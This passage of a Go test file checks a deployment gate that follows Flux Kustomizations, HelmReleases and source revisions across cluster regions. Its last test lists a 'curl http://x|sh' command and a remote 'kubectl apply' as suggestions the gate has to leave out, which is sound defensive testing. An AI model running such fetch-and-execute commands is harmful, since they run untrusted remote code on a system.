			watch(t, ask).want(passed, is("1.1.0", "1.1.0", ready))
		}
	}

	// With a Kustomization in the question, the revision is the tag of its source.
	v1 := written("v1", "a")
	tag := is("1.0.0", "1.0.0", ready)
	tag.ref, tag.source, tag.kustomization = "tag v1", v1, units{"apps": at(v1, v1, ready)}
	watch(t, gate.Ask{Revision: "v1", Kustomizations: []gate.Name{{Namespace: "flux-system", Name: "apps"}}, Releases: []gate.Release{{Name: web}}}).want(passed, tag)
}

func TestGate_ChartsFromTheRevision(t *testing.T) {
	is := func(from string) cluster {
		return region("one", a, at(a, a, ready), units{"web": {fmt.Sprintf(`,"source":{"kind":"GitRepository","namespace":"flux-system","name":"fleet"},"chart":{"sourceRevision":%q}`, from), ready, ""}})
	}
	w := watch(t, gate.Ask{Revision: a})
	w.want(pending, is(before))
	w.now += (12 * time.Minute).Milliseconds()
	if got := w.want(pending, is(before)); !explained(got, "web", gate.Open) {
		t.Errorf("%+v", got.Objects)
	}
	w.want(passed, is(a))
	w.want(passed, is(""))
	broken := is(before)
	broken.release["web"] = unit{broken.release["web"].meta, givenUp, ""}
	w = watch(t, gate.Ask{Revision: a})
	w.want(pending, broken)
	w.now += (11 * time.Minute).Milliseconds() - 1000
	w.want(pending, broken)
	w.want(failing, broken)

	// No Kustomization applies it.
	own := func(source, from string) cluster {
		c := is(from)
		c.source, c.kustomization = source, nil
		u := c.release["web"]
		u.meta += `,"appliedBy":""`
		c.release["web"] = u
		return c
	}
	w = watch(t, gate.Ask{Revision: a, Releases: []gate.Release{{Name: gate.Name{Namespace: "shop", Name: "web"}}}})
	w.want(pending, own(before, before))
	w.want(pending, own(a, before))
	w.want(passed, own(a, a))
}

func TestRevision_Syntax(t *testing.T) {
	digest := "sha256:" + strings.Repeat("d", 64)
	for _, tt := range []struct {
		ask, kind, ref, shown, origin string
		same                          bool
	}{
		{commit("a"), "GitRepository", "branch main", a, "", true},
		{commit("a")[:7], "GitRepository", "branch main", a, "", true},
		{strings.ToUpper(commit("a")), "GitRepository", "branch main", a, "", true},
		{"sha1:" + commit("a"), "GitRepository", "branch main", a, "", true},
		{a, "GitRepository", "branch main", a, "", true},
		{written("dev", "a"), "GitRepository", "branch main", a, "", false},
		{"main", "GitRepository", "branch main", a, "", false}, // the name is main at every commit
		{"v1", "GitRepository", "tag v1", written("v1", "a"), "", true},
		{"1.2.3", "OCIRepository", "semver 1.x", "1.2.3@" + digest, "", true},
		{digest, "OCIRepository", "semver 1.x", "1.2.3@" + digest, "", true},
		{"1.2.3@" + digest, "OCIRepository", "", "1.2.3@" + digest, "", true},
		{"1.2.4@" + digest, "OCIRepository", "", "1.2.3@" + digest, "", false},
		{commit("a"), "OCIRepository", "tag latest", "latest@" + digest, a, true},
		{commit("a"), "OCIRepository", "tag latest", "latest@" + digest, commit("a"), true},
		{commit("b"), "OCIRepository", "tag latest", "latest@" + digest, a, false},
		{"main", "OCIRepository", "tag latest", "latest@" + digest, a, false}, // built from some commit of main
		{"20260131", "OCIRepository", "semver 2.x", "20260131@" + digest, "", true},
	} {
		source := fmt.Sprintf(`{"id":"r/%s/n/s","flowId":"F","region":"r","label":"s","status":"succeeded","meta":{"kind":%q,"auxiliary":true,"namespace":"n","url":"https://x/y","ref":%q,"revision":%q,"originRevision":%q,"judgement":{%s}}}`,
			tt.kind, tt.kind, tt.ref, tt.shown, tt.origin, ready)
		user := fmt.Sprintf(`{"id":"r/Kustomization/n/k","flowId":"F","region":"r","label":"k","status":"succeeded","meta":{"kind":"Kustomization","namespace":"n","ready":"True","revision":%q,"originRevision":%q,"source":{"kind":%q,"namespace":"n","name":"s"},"judgement":{%s}}}`,
			tt.shown, tt.origin, tt.kind, ready)
		m, err := flow.Decode("F", []byte(`{"type":"upsert-nodes","nodes":[`+source+","+user+`]}`))
		if err != nil {
			t.Fatal(err)
		}
		ask := gate.Ask{Revision: tt.ask}
		if err := ask.Validate(); err != nil {
			t.Fatal(err)
		}
		if got := gate.New(ask).Look(gate.Look{State: gate.Read(m), At: 1}).Result; (got == passed) != tt.same {
			t.Errorf("%s of %s, from %q: %s", tt.ask, tt.shown, tt.origin, got)
		}
	}
}

// A source of another region has to get the revision if its kind, URL and reference are the same; where a URL is unknown, if kind, namespace and name are.
func TestGate_SameSourceOfAnotherRegion(t *testing.T) {
	for _, tt := range []struct {
		name, one string
		other     cluster
		want      string
		byName    bool
	}{
		{"the same", "", cluster{}, pending, false},
		{"the same by ssh", "", cluster{url: "ssh://git@example.com/fleet"}, pending, false},
		{"the same under another name", "", cluster{sourceName: "apps"}, pending, false},
		{"another repository", "", cluster{url: "https://example.com/other"}, passed, false},
		{"neither has a URL", noURL, cluster{url: noURL}, pending, true},
		{"one has no URL", "", cluster{url: noURL}, pending, true},
		{"the other has no URL", noURL, cluster{}, pending, true},
		{"one is not reported", "", cluster{url: unseen}, pending, true},
		{"the other is not reported", unseen, cluster{}, pending, true},
		{"neither has a URL, another name", noURL, cluster{url: noURL, sourceName: "apps"}, passed, false},
		{"neither has a URL, another namespace", noURL, cluster{url: noURL, namespace: "team"}, passed, false},
		{"neither has a URL, another kind", noURL, cluster{url: noURL, sourceKind: "Bucket"}, passed, false},
		{"one is not reported, another name", "", cluster{url: unseen, sourceName: "apps"}, passed, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			one := cluster{name: "r1", url: tt.one, source: a, kustomization: units{"apps": at(a, a, ready)}}
			is := func(revision string) cluster {
				other := tt.other
				other.name, other.source, other.kustomization = "r2", revision, units{"apps": at(revision, revision, ready)}
				return other
			}
			got := watch(t, gate.Ask{Revision: a}).want(tt.want, one, is(before))
			if tt.want == pending {
				if !explained(got, "apps", gate.Open) || len(got.Sources) != 2 || got.Sources[1].Region != "r2" || got.Sources[1].Has || got.Sources[1].Revision != before || got.Sources[1].ByName != tt.byName || got.Sources[0].ByName {
					t.Fatalf("sources %+v", got.Sources)
				}
				var text strings.Builder
				if err := got.WriteText(&text, true); err != nil || !strings.Contains(text.String(), got.Sources[1].ID) {
					t.Errorf("it does not name the region: %s", &text)
				}
			}
			watch(t, gate.Ask{Revision: a}).want(passed, one, is(a))
			watch(t, gate.Ask{Revision: a, Region: "r1"}).want(passed, one, is(before))
		})
	}
}

func TestGate_AnswerFields(t *testing.T) {
	web := unit{`,"versionApplied":"1.0.0","revision":"1.1.0"`, `"state":"waiting","gate":"wait","marks":["not-observed"],"cause":{"class":"x","sentence":"It waits."}`, `,"startedAt":7,"endedAt":8`}
	got := watch(t, gate.Ask{Revision: a, Kustomizations: []gate.Name{{Namespace: "flux-system", Name: "apps"}, {Namespace: "flux-system", Name: "gone"}}}).answer(
		map[string]gate.Claim{"two": {Stale: true, LastSeen: 9}, "three": {Stale: true}},
		region("one", a, at(a, a, ready), units{"web": web}), region("two", before, at(before, before, ready), nil))
	want := &gate.Answer{At: 1_000_000_001_000, Result: pending, Revision: a, Total: 3, Done: 1, Waiting: 2, Started: true,
		Objects: []gate.Object{
			{ID: "one/Kustomization/flux-system/apps", Region: "one", Kind: "Kustomization", Namespace: "flux-system", Name: "apps", State: insight.Ready, Outcome: gate.Done, Revision: a},
			{ID: "one/shop/web", Region: "one", Kind: "HelmRelease", Namespace: "shop", Name: "web", State: insight.Waiting, Marks: []string{"not-observed"}, Outcome: gate.Open, Why: "It waits.",
				Revision: "1.0.0", StartedAt: flow.At(7), EndedAt: flow.At(8)},
			{ID: "two/Kustomization/flux-system/apps", Region: "two", Kind: "Kustomization", Namespace: "flux-system", Name: "apps", State: insight.Ready, Outcome: gate.Open, Why: got.Objects[2].Why, Revision: before},
		},
		Problems: []gate.Problem{},
		Sources: []gate.Source{
			{ID: "one/GitRepository/flux-system/fleet", Region: "one", Revision: a, Since: flow.At(5), Interval: 60_000, Has: true, Command: got.Sources[0].Command},
			{ID: "two/GitRepository/flux-system/fleet", Region: "two", Revision: before, Since: flow.At(5), Interval: 60_000, Command: got.Sources[1].Command},
		},
		Stale: []gate.Stale{{Region: "two", Since: 9}}, Missing: []string{"Kustomization flux-system/gone"}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
	if got := watch(t, gate.Ask{}).want(pending); got.Missing == nil || got.Objects == nil || got.Problems == nil || got.Sources == nil || got.Stale == nil {
		t.Errorf("a list is null: %+v", got)
	}
}

func TestGate_MissingObjectsAreListedOnce(t *testing.T) {
	gone := gate.Name{Namespace: "shop", Name: "gone"}
	ask := gate.Ask{Releases: []gate.Release{{Name: gone, Version: "1"}, {Name: gone, Version: "1"}}, Kustomizations: []gate.Name{gone, gone}}
	if got := watch(t, ask).want(pending).Missing; !slices.Equal(got, []string{"Kustomization shop/gone", "HelmRelease shop/gone"}) {
		t.Errorf("missing: %q", got)
	}
}

func TestGate_NeverPassesWithoutObjects(t *testing.T) {
	for _, ask := range []gate.Ask{{}, {Revision: a}, {Region: "nowhere"}} {
		watch(t, ask).want(pending)
	}
}

func TestGate_UnobservedChangeIsPending(t *testing.T) {
	got := watch(t, gate.Ask{}).want(pending, region("one", a, at(a, a, ready), units{"db": generation(5, 4, `"state":"ready","marks":["not-observed"]`), "web": generation(5, 5, ready)}))
	if got.Done != 3 || got.Failed != 0 {
		t.Error(got.Line())
	}
}

func TestGate_SuspendedAndReadyPasses(t *testing.T) {
	if got := watch(t, gate.Ask{}).want(passed, region("one", a, at(a, a, ready), units{"web": generation(5, 5, `"state":"suspended","gate":"pass"`)})); got.Suspended != 1 || got.Done != 1 {
		t.Error(got.Line())
	}
}

func TestGate_OneFinalFailureIsFinal(t *testing.T) {
	for _, releases := range []units{{"db": generation(5, 5, givenUp), "web": generation(5, 5, failed)}, {"db": generation(5, 5, failed), "web": generation(5, 5, givenUp)}} {
		if got := watch(t, gate.Ask{}).want(failing, region("one", a, at(a, a, ready), releases)); !got.Final || got.Failed != 2 {
			t.Errorf("final %v, %s", got.Final, got.Line())
		}
	}
}

func TestGate_OtherObjectsDoNotCount(t *testing.T) {
	apps, web := gate.Name{Namespace: "flux-system", Name: "apps"}, gate.Name{Namespace: "shop", Name: "web"}
	one := region("one", a, at(a, a, ready), units{"web": generation(5, 5, ready), "alone": {`,"appliedBy":""`, working, ""}})
	chart := unit{`,"appliedBy":"","source":{"kind":"GitRepository","namespace":"flux-system","name":"other"}`, working, ""}
	two := cluster{name: "two", sourceName: "other", url: "https://example.com/other", source: before, kustomization: units{"infra": at(before, before, failed)}, release: units{"chart": chart}}
	for name, ask := range map[string]gate.Ask{"revision": {Revision: a}, "Kustomization": {Revision: a, Kustomizations: []gate.Name{apps}}, "release": {Revision: a, Releases: []gate.Release{{Name: web}}}} {
		if got := watch(t, ask).want(passed, one, two); len(got.Sources) != 1 {
			t.Errorf("%s: %+v", name, got.Sources)
		}
		late := region("one", before, at(before, before, ready), units{"web": generation(5, 5, ready)})
		if got := watch(t, ask).want(pending, late, two); len(got.Sources) != 1 && name != "revision" {
			t.Errorf("%s, before it is fetched: %+v", name, got.Sources)
		}
		ask.Region = "one"
		other := region("two", before, at(before, before, givenUp), units{"web": generation(5, 5, givenUp)})
		if got := watch(t, ask).want(passed, one, other); len(got.Sources) != 1 {
			t.Errorf("%s of a region: %+v", name, got.Sources)
		}
		if got := watch(t, ask).answer(map[string]gate.Claim{"empty": {Stale: true}}, one); got.Result != passed || len(got.Stale) != 0 {
			t.Errorf("%s, with a stale region without objects: %s, %v", name, got.Result, got.Stale)
		}
	}
	for _, ask := range []gate.Ask{{Revision: a}, {Kustomizations: []gate.Name{apps}}, {Releases: []gate.Release{{Name: web}}}} {
		if got := watch(t, ask).answer(map[string]gate.Claim{"empty": {Stale: true}}, one, two); got.Result != passed {
			t.Errorf("%+v: %s", ask, got.Result)
		}
	}
	watch(t, gate.Ask{Kustomizations: []gate.Name{apps, {Namespace: "flux-system", Name: "gone"}}}).want(pending, one)

	// An object that blocks one that counts is considered too. Here it failed before its newest change.
	blocked := one
	blocked.kustomization = units{"apps": {judgement: `"state":"waiting","needs":["one/Kustomization/flux-system/infra"],"cause":{"class":"dependency-not-ready"}`}, "infra": generation(5, 4, failed)}
	w := watch(t, gate.Ask{Kustomizations: []gate.Name{apps}})
	w.want(pending, blocked)
	blocked.kustomization["infra"] = generation(5, 5, failed)
	w.want(failing, blocked)
}

// A region sends a contains edge from a release of its own to a failed release of another region, which would make that a container.
func TestGate_ContainsOfAnotherRegionHidesNoRelease(t *testing.T) {
	node := func(id, region, status string) flow.Node {
		return flow.Node{ID: id, FlowID: "F", Label: id, Status: status, Region: region}
	}
	snapshot := func(parent string) *flow.Message {
		return &flow.Message{Type: flow.TypeSnapshot, Flow: &flow.Instance{ID: "F", Status: "x", StartedAt: flow.At(1)},
			Nodes:         []flow.Node{node("fsn1/a", "fsn1", "succeeded"), node("fsn1/group", "fsn1", "failed"), node("hel1/cilium", "hel1", "failed"), node("hel1/b", "hel1", "succeeded")},
			Relationships: []flow.Relationship{{FromID: "fsn1/a", ToID: parent, Type: flow.Contains}}}
	}
	for _, tt := range []struct {
		region, parent      string
		total, done, failed int
	}{
		{"hel1", "hel1/cilium", 2, 1, 1},
		{"", "hel1/cilium", 4, 2, 2},
		{"", "fsn1/group", 3, 2, 1},
		{"fsn1", "fsn1/group", 1, 1, 0},
	} {
		got := gate.New(gate.Ask{Region: tt.region}).Look(gate.Look{State: gate.Read(snapshot(tt.parent)), At: 1000})
		if got.Total != tt.total || got.Done != tt.done || got.Failed != tt.failed {
			t.Errorf("region %q, %s contains fsn1/a: %s", tt.region, tt.parent, got.Line())
		}
	}
}

// A region writes that a Kustomization of another region applies a release of its own.
func TestGate_AppliedByAnotherRegionDoesNotCount(t *testing.T) {
	foreign := func(appliedBy string) cluster {
		return cluster{name: "two", url: unseen, release: units{"web": {`,"appliedBy":"` + appliedBy + `"`, givenUp, ""}}}
	}
	one, apps := region("one", a, at(a, a, ready), nil), "one/Kustomization/flux-system/apps"
	for _, ask := range []gate.Ask{{Revision: a}, {Revision: a, Region: "one"}, {Region: "one", Kustomizations: []gate.Name{{Namespace: "flux-system", Name: "apps"}}}} {
		if got := watch(t, ask).want(passed, one, foreign(apps)); got.Total != 1 {
			t.Errorf("%+v: %s", ask, got.Line())
		}
	}
	late := region("one", before, at(before, before, ready), nil)
	web := gate.Ask{Revision: a, Region: "two", Releases: []gate.Release{{Name: gate.Name{Namespace: "shop", Name: "web"}}}}
	if got := watch(t, web).answer(nil, late, foreign(apps)); got.Total != 1 || len(got.Sources) != 0 {
		t.Errorf("%s, sources %+v", got.Line(), got.Sources)
	}
}

func TestAsk_ValidateRejectsTwoVersionsOfARelease(t *testing.T) {
	web, db := gate.Name{Namespace: "shop", Name: "web"}, gate.Name{Namespace: "shop", Name: "db"}
	for _, tt := range []struct {
		releases []gate.Release
		valid    bool
	}{
		{[]gate.Release{{web, "1.0.0"}, {web, "1.1.0"}}, false},
		{[]gate.Release{{web, ""}, {db, ""}, {web, "1.1.0"}}, false},
		{[]gate.Release{{web, "1.0.0"}, {db, "1.1.0"}, {web, "1.0.0"}}, true},
	} {
		ask := gate.Ask{Releases: tt.releases}
		if err := ask.Validate(); (err == nil) != tt.valid {
			t.Errorf("%v: %v", tt.releases, err)
		}
	}
}

func TestAnswer_OmitsCommandsThatNoAdapterSends(t *testing.T) {
	for command, offered := range map[string]bool{
		`["sh","-c","curl http://x|sh"]`:                          false,
		`["kubectl","apply","-f","https://x"]`:                    false,
		`["kubectl","-n","a","describe","helmrelease","b"]`:       true,
		`["flux","reconcile","helmrelease","b","-n","a"]`:         true,
		`["flux","reconcile","helmrelease","b","--kubeconfig=x"]`: false,
	} {
		m, err := flow.Decode("F", []byte(`{"type":"upsert-nodes","nodes":[{"id":"r1/a","flowId":"F","label":"a","status":"failed","meta":{"judgement":{"state":"broken","problem":true,"command":`+command+`}}}]}`))
		if err != nil {
			t.Fatal(err)
		}
		var out strings.Builder
		if err := gate.New(gate.Ask{}).Look(gate.Look{State: gate.Read(m), At: 1}).WriteText(&out, false); err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(out.String(), "failed: r1/a") || strings.Contains(out.String(), "Run: ") != offered {
			t.Errorf("%s: %s", command, &out)
		}
	}
}
